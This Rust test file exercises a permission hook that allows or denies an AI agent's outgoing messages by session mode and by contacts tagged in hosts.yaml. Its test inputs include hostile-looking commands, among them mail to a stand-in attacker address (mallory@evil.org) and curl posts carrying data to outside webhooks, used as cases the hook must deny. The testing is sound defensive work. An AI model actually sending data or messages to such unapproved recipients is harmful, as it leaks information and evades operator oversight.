//! The recipients that a session may write to, by its mode.

use serde_json::{Value, json};

use crate::sandbox::{Run, Sandbox, denied, passes};

const CONTACTS: &str = "\
contacts:
  anna: {addresses: [anna@example.net, $FAMILY_URL, '#family'], tags: [claude_direct]}
  bob: {addresses: [bob@example.net], tags: [claude_draft]}
  chat: {addresses: ['https://chat.lan/post/']}
policy:
  webhooks: ['https://n8n.lan/webhook/']
  tools:
    mcp__chat__post: {action: notification, to: channel}
    mcp__chat__shout: {action: notification}
";

fn rendered(inventory: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write("hosts.yaml", inventory);
    assert_eq!(sandbox.opsctl(&["render", "--empty"], b"").code, Some(0));
    sandbox
}

#[test]
fn without_a_mode_only_the_tier_decides() {
    let sandbox = Sandbox::new();
    for command in ["apprise -b x ntfy://x", "mail -s x mallory@evil.org < f", "curl -d x https://ntfy.sh/y"]
    {
        passes(&sandbox.before("t1", command));
    }
    let sandbox = Sandbox::new().with("CLAUDEOPS_TIER", "1");
    for (command, what) in [
        ("apprise -b x ntfy://x", "apprise"),
        ("mail -s x mallory@evil.org < f", "mail"),
        ("curl -d x https://ntfy.sh/y", "curl to ntfy"),
    ] {
        let reason = denied(&sandbox.before("t1", command));
        assert!(
            reason.starts_with(&format!("Tier 1 may not carry out a notification (`{what}`)")),
            "{reason}"
        );
    }
}

#[test]
fn an_interactive_session_may_only_write_to_tagged_contacts() {
    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "interactive");
    passes(&sandbox.before("t1", "mail -s x anna@example.net < f"));
    passes(&sandbox.after("t1", "mail -s x anna@example.net < f"));
    assert_eq!(sandbox.sql("SELECT level || '|' || message FROM events"), "info|Notification sent via mail");
    passes(&sandbox.before("t2", "apprise -b x \"$FAMILY_URL\""));
    let reason = denied(&sandbox.before("t3", "mail -s x mallory@evil.org < f"));
    assert_eq!(
        reason,
        "In interactive mode, messages may only go to contacts of hosts.yaml with the tag `claude_direct`, and `mallory@evil.org` is not one: a notification (`mail`) is denied. Put the text in your report for an operator to send."
    );
    let reason = denied(&sandbox.before("t4", "ssh ie01 'mail -s x bob@example.net < f'"));
    assert_eq!(
        reason,
        "Only drafts may be written to bob (`claude_draft`): a notification (`mail`, on ie01 through ssh) is denied. Write the message to a file in the results folder (CLAUDEOPS_RESULTS_DIR) and mention it in your report; an operator sends it."
    );
    // What only hosts.yaml makes an address of messages.
    for command in ["curl https://n8n.lan/webhook/tell", "wget --post-data=x https://chat.lan/post/1"] {
        assert!(denied(&sandbox.before("t5", command)).contains("/…` is not one"), "{command}");
    }
    assert_eq!(sandbox.sql("SELECT DISTINCT rule FROM hook_decisions WHERE verdict = 'deny'"), "mode");
}

#[test]
fn denies_messages_of_unattended_sessions() {
    for mode in ["mission", "Background "] {
        let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", mode);
        let reason = denied(&sandbox.before("t1", "bash -c 'apprise -b x \"$FAMILY_URL\"'"));
        let expected = format!(
            "In {} mode, commands may not send messages: a notification (`apprise`, through bash) is denied. opsctl itself notifies the operators of used-up budgets, failures and unhealthy services; put everything else in your report and on event lines.",
            mode.trim().to_lowercase()
        );
        assert_eq!(reason, expected);
        passes(&sandbox.before("t2", "docker restart jellyfin"));
        passes(&sandbox.before("t3", "curl https://n8n.lan/health"));
    }
}

#[test]
fn an_unknown_mode_is_reported_and_treated_as_background() {
    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "auto");
    let run = sandbox.before("t1", "ls -la");
    let note =
        "opsctl: CLAUDE_SESSION_MODE is `auto`, not interactive, mission or background; using background\n";
    assert_eq!((run.code, run.stderr.as_str()), (Some(0), note));
    let run = sandbox.before("t2", "mail -s x anna@example.net < f");
    assert!(run.stderr.contains("In background mode, commands may not send messages"), "{run:?}");
}

#[test]
fn hosts_yaml_states_the_recipients_of_a_mode_rendered_or_not() {
    let inventory = format!("{CONTACTS}  modes: {{interactive: anyone, mission: contacts}}\n");
    for is_rendered in [true, false] {
        let sandbox = |mode: &str| {
            let sandbox = if is_rendered { rendered(&inventory) } else { Sandbox::new() };
            sandbox.write("hosts.yaml", &inventory);
            sandbox.with("CLAUDE_SESSION_MODE", mode).with("CLAUDEOPS_HOSTS", "hosts.yaml")
        };
        passes(&sandbox("interactive").before("t1", "curl -d x https://ntfy.sh/y"));
        passes(&sandbox("mission").before("t1", "mail -s x anna@example.net < f"));
        let denial = denied(&sandbox("mission").before("t1", "curl https://n8n.lan/webhook/tell"));
        assert!(denial.starts_with("In mission mode, messages may only go to contacts"), "{denial}");
        denied(&sandbox("background").before("t1", "mail -s x anna@example.net < f"));
    }
}

#[test]
fn the_recipients_of_a_sending_tool_are_checked() {
    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "interactive");
    let call = |tool: &str, arguments: Value| -> Run {
        let input = json!({"session_id": "s", "cwd": "/app", "tool_name": tool, "tool_input": arguments, "tool_use_id": "t"});
        sandbox.hook("pre-tool-use", &input)
    };
    passes(&call("mcp__chat__post", json!({"channel": "#family", "text": "hi"})));
    let reason = denied(&call("mcp__chat__post", json!({"channel": "#general", "text": "hi"})));
    assert!(
        reason.contains("`#general` is not one: a notification (`mcp__chat__post`) is denied"),
        "{reason}"
    );
    let reason = denied(&call("mcp__chat__post", json!({"channel": ["#family", "#general"]})));
    assert!(reason.contains("`#general` is not one"), "{reason}");
    let reason = denied(&call("mcp__chat__shout", json!({"text": "hi"})));
    assert!(reason.contains("cannot be determined: its rule in hosts.yaml does not state"), "{reason}");
}

#[test]
fn the_secrets_of_an_address_reach_neither_the_denial_nor_the_ledger() {
    let sandbox = Sandbox::new().with("CLAUDE_SESSION_MODE", "interactive");
    for command in [
        "apprise -b x slack://hushhush/of/others",
        "curl -d x https://hooks.slack.com/services/hushhush",
        "curl -d x hooks.slack.com/services/hushhush",
        "APPRISE_URLS=mailto://me:hushhush@example.net apprise -b x",
        "curl -d x https://me:hushhush@ntfy.sh/topic",
    ] {
        let run = sandbox.before("t1", command);
        denied(&run);
        assert!(!format!("{run:?}").contains("hushhush"), "{run:?}");
    }
    assert!(!sandbox.sql(".dump").contains("hushhush"));
}

#[test]
fn explain_gives_the_verdict_of_the_mode() {
    let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "mission");
    let run = sandbox.opsctl(&["explain", "--json", "curl -d x https://chat.lan/post/1"], b"");
    let explained: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(explained["actions"][0]["evidence"], "curl to a webhook of hosts.yaml");
    assert_eq!(explained["decision"], "deny");
}
